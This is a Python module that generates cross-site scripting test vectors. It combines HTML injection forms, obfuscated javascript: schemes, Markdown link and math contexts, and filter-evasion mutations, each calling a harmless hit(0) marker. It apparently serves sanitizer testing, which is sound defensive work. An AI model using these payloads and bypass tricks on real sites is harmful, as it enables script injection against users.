"""Ways to have a page run a script, made by combination: each calls `hit(number)` when it succeeds."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

_LOADING: Final = (
    "<img src=x onerror={}>",
    "<img src=x srcset=x onerror={}>",
    "<svg onload={}></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></animate></svg>",
    "<svg><set onbegin={} attributeName=x></set></svg>",
    "<svg><script>{}</script></svg>",
    "<svg><image href=x onerror={}></svg>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<video src=x onerror={}></video>",
    "<video><source src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<select autofocus onfocus={}></select>",
    "<button autofocus onfocus={}>x</button>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<iframe onload={}></iframe>",
    "<object data=x onerror={}></object>",
    "<embed src=x onerror={}>",
    "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>",
    "<script>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<math><mtext onclick={}>x</mtext></math>",
    "<p onclick={} onmouseover={}>x</p>",
    "<a onclick={} onfocus={} tabindex=0>x</a>",
    "<div contenteditable autofocus onfocus={}>x</div>",
    "<div onanimationstart={} class=spinner>x</div>",
    "<xmp onclick={}>x</xmp>",
    "<dialog open onclose={} onclick={}>x</dialog>",
    "<div popover id=pop ontoggle={} onclick={}>x</div>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<form id=f></form><button form=f formaction='javascript:{}'>x</button>",
    "<input type=image formaction='javascript:{}' src=x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'><a href=x>x</a>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x'></use></svg>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<style><img title='</style><img src=x onerror={}>'></style>",
    "<title><img title='</title><img src=x onerror={}>'></title>",
    "<textarea><img title='</textarea><img src=x onerror={}>'></textarea>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml ><img src=x onerror={}>",
    "</article></main><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "--><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
    "</script><img src=x onerror={}>",
    "</textarea><img src=x onerror={}>",
    "</style><img src=x onerror={}>",
    "{{{{''.constructor.constructor('{}')()}}}}",
    "{{% raw %}}<img src=x onerror={}>{{% endraw %}}",
)
_SCHEMES: Final = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "java&Tab;script:{}",
    "\x01javascript:{}",
    "javascript://e.example/%0A{}",
    "view-source:javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>parent.{}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "blob:https://e.example/{}",
    "//e.example/{}",
    "feed:javascript:{}",
)
_MARKDOWN: Final = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x][r]\n\n[r]: <{}>",
    '[x](https://e.example/ "{}")',
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    "<img src='{}'>",
)
_CONTEXTS: Final = (
    "{}",
    "# {}",
    "> [!note] {}",
    "> [!{}]",
    "- [ ] {}",
    "| a |\n|---|\n| {} |",
    "```{}\ncode\n```",
    "```html\n{}\n```",
    "`{}`",
    "x[^n]\n\n[^n]: {}",
    "x[^{}]\n\n[^{}]: y",
    "$\\text{{{}}}$",
    "$$\n\\href{{{}}}{{x}}\n$$",
    "$\\class{{{}}}{{x}}$",
    "![{}](https://e.example/a.png)",
    "[![a](https://e.example/a.png)](https://e.example/a.png)\n\n*{}*",
    "**{}**",
)


def vectors() -> Iterator[str]:
    """All of them, plain ones first; `hit(0)` stands where a number may be put."""
    hit = "hit(0)"
    yield from (form.format(*[hit] * 3) for form in _LOADING)
    links = [form.format(hit) for form in _SCHEMES]
    yield from (form.format(link, link) for form, link in product(_MARKDOWN, links))
    plain = [form.format(*[hit] * 3) for form in _LOADING]
    yield from (_put(context, one) for context, one in product(_CONTEXTS[1:], plain))
    yield from (_put(context, link) for context, link in product(_CONTEXTS[1:], links))
    for one in plain:
        yield one.replace("<", "<\0", 1)
        yield one.replace(" on", "/on")
        yield one.replace(" on", "\non").swapcase().replace("HIT", "hit")
        yield one.replace("<", "&lt;").replace(">", "&gt;")
        yield one.replace("hit", "&#104;it")
        yield f"<div>{one}"
        yield one.removesuffix(">")


def _put(context: str, one: str) -> str:
    """Braces of a vector are not our places."""
    return context.replace("{{", "\0(").replace("}}", "\0)").replace("{}", one).replace("\0(", "{").replace("\0)", "}")
